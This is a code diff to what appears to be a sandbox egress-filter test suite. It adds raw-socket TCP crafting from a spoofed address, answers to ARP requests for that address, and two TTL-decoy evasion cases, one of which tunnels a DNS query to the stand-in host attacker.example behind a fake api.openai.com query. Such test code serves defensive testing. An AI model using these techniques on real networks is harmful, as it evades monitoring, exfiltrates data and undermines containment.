@@ -12,7 +12,7 @@ import time
 import craft
 import raw
 from kernel import PACKET_QDISC_BYPASS, SOL_PACKET, checked, libc, setns, tun, unshare, CLONE_NEWNET
-from table import Unavailable, attack
+from table import Unavailable, attack, packed
 
 PACKET = "packet sockets"
 TUNNEL = "devices and tunnels of the attacker's own"
@@ -349,3 +349,57 @@ def box_neighbour(t):
 def box_echo(t):
     data = craft.icmp(8, b"\0\1\0\1" + t.marker) if t.family == 4 else craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker)
     packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data)))
+
+
+class Crafted:
+    """A TCP connection by hand, from an address that leads to the bridge and that nobody has."""
+    SOURCE, PORT = "10.0.1.77", 40077
+
+    def __init__(self, t, to, port):
+        self.t, self.to, self.port, self.seq = t, to, port, 0x6F680001
+        self.link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+        self.link.bind(("eth0", 3))
+        self.link.settimeout(2)
+        self.ack = 0
+        self.send(craft.SYN)
+        self.ack = struct.unpack("!I", self.receive()[24:28])[0] + 1
+        self.seq += 1
+        self.send(craft.ACK)
+
+    def send(self, flags, data=b"", hops=64):
+        segment = craft.tcp(self.SOURCE, self.to, self.PORT, self.port, flags, data, self.seq, self.ack)
+        self.link.send(ether(self.t, craft.ip4(self.SOURCE, self.to, craft.TCP, segment, ttl=hops)))
+
+    def receive(self, payload=False):
+        """The next IP packet to us, after the ARP requests for our address."""
+        mine = packed(self.SOURCE)
+        while True:
+            frame = self.link.recv(2000)
+            if frame[12:14] == b"\x08\x06" and frame[38:42] == mine and frame[21] == 1:
+                answer = frame[14:20] + b"\0\2" + self.t.own_mac + mine + frame[22:32]
+                self.link.send(ether(self.t, answer, 0x0806))
+            elif frame[12:14] == b"\x08\0" and frame[30:34] == mine and frame[23] == craft.TCP:
+                if not payload or len(frame) > 14 + 20 + (frame[46] >> 4) * 4:
+                    return frame[14:]
+
+
+@attack(BOX, "a hello that the first router drops, and another in its place", "uplink", "tls-not-tls", families=(4,), where="box")
+def box_hello_changed(t):
+    import tls
+    seen, sent = tls.pair(t)
+    c = Crafted(t, t.shared, 443)
+    c.send(craft.ACK | craft.PSH, seen, 2)
+    c.send(craft.ACK | craft.PSH, sent)
+    c.receive(payload=True)
+
+
+@attack(BOX, "a query over TCP that the first router drops, and another in its place", "uplink", "dns-malformed", families=(4,), where="box")
+def box_query_changed(t):
+    sent = craft.query(f"{t.label}.{t.label}.attacker.example")
+    seen = craft.query("api.openai.com", counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, len(sent) - 43, 65001, len(sent) - 47) +
+                       bytes(len(sent) - 47))
+    assert len(seen) == len(sent)
+    c = Crafted(t, t.resolver, 53)
+    for query, hops in ((seen, 2), (sent, 64)):
+        c.send(craft.ACK | craft.PSH, struct.pack("!H", len(query)) + query, hops)
+    c.receive(payload=True)
